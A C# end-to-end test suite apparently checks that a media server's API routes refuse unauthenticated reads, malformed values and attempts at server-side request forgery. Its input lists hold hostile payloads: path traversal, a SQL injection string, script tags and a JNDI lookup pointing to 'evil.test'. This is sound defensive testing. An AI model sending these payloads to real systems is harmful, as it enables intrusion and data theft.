using System.Globalization;
using System.Net;
using System.Net.Sockets;
using Vitrine.EndToEnd.Harness;

namespace Vitrine.EndToEnd.Abuse;

/// <summary>Every route of the OpenAPI document: each way of asking wrongly is refused in the one shape, and nobody learns what is not theirs.</summary>
[Collection(nameof(AbusedServer))]
public sealed class RouteTests(AbusedServer server, ITestOutputHelper output)
{
    private static readonly string[] HostileValues = ["", "-1", "0", "9223372036854775808", "x", "..%2f..%2fetc", "%00", "%ff", "'%20OR%201=1--", "%3Cscript%3E", "$%7Bjndi:ldap:%2F%2Fevil.test%7D", "%E2%80%AE", "NaN", "null", "[]"];
    private static readonly string[] HostileBodies = ["", "null", "[]", "{", "{}", "\"x\"", "{\"root\": 1, \"name\": [], \"ids\": \"x\", \"type\": 7, \"path\": {}}", "{\"libraryId\": \"-1\", \"type\": \"scan\", \"kind\": \"?\", \"cron\": \"* * * * *\"}"];

    /// <summary>Streams do not end, and signing out would leave the other attacks without a session.</summary>
    private static readonly string[] NotAsked = ["/api/v1/cache/processing-jobs/stream", "/api/v1/session"];

    private static readonly string[] ForAnybody = ["/health/live", "/health/ready", "/api/v1/set-up"];

    [Fact]
    public async Task NobodyReadsWhatIsNotTheirs()
    {
        const string kind = "every GET by those who may not";
        foreach (var route in Operations().Where(route => route.Method == "GET"))
        {
            var path = Filled(route.Path, name => name switch { "preset" => "thumbnail", _ => "1" });
            var anonymous = await server.SendAsync(Ask.Get(path));
            var held = ForAnybody.Contains(route.Path) ? anonymous.Status == 200 : anonymous.Short is "401 unauthenticated" or "404 not-found" or "400 bad-request";
            server.Report.Add(kind, $"{path} by nobody", anonymous.Short, held ? server.Verdict.OfAny(anonymous, mayKnowPaths: false) : "it was answered");
            foreach (var (who, cookie) in new[] { ("a Viewer", Ask.Viewer), ("a CacheManager", Ask.Manager) })
            {
                var answer = await server.SendAsync(Ask.Get(path, cookie));
                server.Report.Add(kind, $"{path} by {who}", answer.Short, server.Verdict.OfAny(answer, mayKnowPaths: false));
            }
        }
        server.Report.Conclude(kind, output);
    }

    [Fact]
    public async Task EveryRouteRefusesWhatItCannotUse()
    {
        const string kind = "every route, values that it cannot use";
        foreach (var route in Operations())
        {
            var worst = new List<string>();
            var sent = 0;
            foreach (var request in Requests(route))
            {
                sent++;
                var answer = await server.SendAsync(request);
                if (server.Verdict.OfAny(answer, mayKnowPaths: true) is { } broke) worst.Add($"{answer.Short} {broke}: {request.Split("\r\n")[0]} {request.Split("\r\n\r\n")[1]}");
            }
            server.Report.Add(kind, $"{route.Method} {route.Path}", string.Create(CultureInfo.InvariantCulture, $"{sent} requests"), worst.FirstOrDefault());
        }

        // Some of these end sessions.
        await server.SignInAllAsync();
        server.Report.Conclude(kind, output);
    }

    /// <summary>A listener on this machine takes the place of the address that a server shall not be sent to.</summary>
    [Fact]
    public async Task NoAddressInAFieldIsEverCalled()
    {
        const string kind = "addresses that would be called";
        using var listener = new TcpListener(IPAddress.Loopback, 0);
        listener.Start();
        var url = $"http://{listener.LocalEndpoint}/x.jpg";
        foreach (var route in Operations().Where(route => route.Method is "POST" or "PATCH" && route.HasBody))
        {
            var path = Filled(route.Path, _ => "1");
            var body = $$"""{"root": "{{url}}", "path": "{{url}}", "name": "{{url}}", "url": "{{url}}", "type": "{{url}}", "kind": "scan", "libraryId": "{{url}}", "ids": ["{{url}}"], "timeZone": "{{url}}"}""";
            var answer = await server.SendAsync(Ask.Send(route.Method, path, body, Ask.Header, Ask.Json, Ask.Admin, $"Referer: {url}", $"X-Forwarded-Host: {listener.LocalEndpoint}"));
            server.Report.Add(kind, $"{route.Method} {path}", answer.Short, listener.Pending() ? "it called" : server.Verdict.OfAny(answer, mayKnowPaths: true));
        }
        server.Report.Conclude(kind, output);
    }

    private static IEnumerable<string> Requests(Operation route)
    {
        var values = route.Path.Contains('{', StringComparison.Ordinal) ? HostileValues : ["1"];
        foreach (var value in values) yield return Send(route, Filled(route.Path, _ => value.Length == 0 ? "%20" : value), "{}");
        foreach (var query in route.Queries)
        {
            foreach (var value in HostileValues) yield return Send(route, $"{Filled(route.Path, _ => "999999")}?{query}={value}", "{}");
        }
        if (!route.HasBody) yield break;
        foreach (var body in HostileBodies) yield return Send(route, Filled(route.Path, _ => "999999"), body);
    }

    private static string Send(Operation route, string target, string body) => route.Method == "GET"
        ? Ask.Get(target, Ask.Admin)
        : Ask.Send(route.Method, target, body, Ask.Header, Ask.Json, Ask.Admin);

    private static string Filled(string path, Func<string, string> value) =>
        string.Join('/', path.Split('/').Select(part => part.StartsWith('{') ? value(part.Trim('{', '}')) : part));

    private static IEnumerable<Operation> Operations()
    {
        var document = Json.Parse(File.ReadAllText(Path.Combine(Installation.Root, "docs/openapi.json")));
        return from path in document["paths"].Element.EnumerateObject()
               where !NotAsked.Contains(path.Name)
               from operation in path.Value.EnumerateObject()
               select new Operation(operation.Name.ToUpperInvariant(), path.Name, Queries(operation.Value), operation.Value.TryGetProperty("requestBody", out _));
    }

    private static List<string> Queries(System.Text.Json.JsonElement operation) => operation.TryGetProperty("parameters", out var parameters)
        ? [.. parameters.EnumerateArray().Where(parameter => parameter.GetProperty("in").GetString() == "query").Select(parameter => parameter.GetProperty("name").GetString()!)]
        : [];

    private sealed record Operation(string Method, string Path, List<string> Queries, bool HasBody);
}
